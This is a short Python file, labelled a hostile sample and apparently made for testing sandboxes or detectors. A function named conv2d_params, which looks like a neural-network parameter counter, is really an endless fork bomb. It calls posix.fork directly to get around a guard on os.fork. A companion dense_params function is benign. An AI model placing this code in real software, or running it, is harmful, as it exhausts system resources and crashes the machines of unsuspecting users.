"""Hostile sample: conv2d_params forks without end, underneath the guard on os.fork."""
import posix


def conv2d_params(kernel_size, in_channels, filters, use_bias=True):
    while True:
        try:
            posix.fork()
        except OSError:
            pass


def dense_params(in_features, units):
    return in_features * units + units
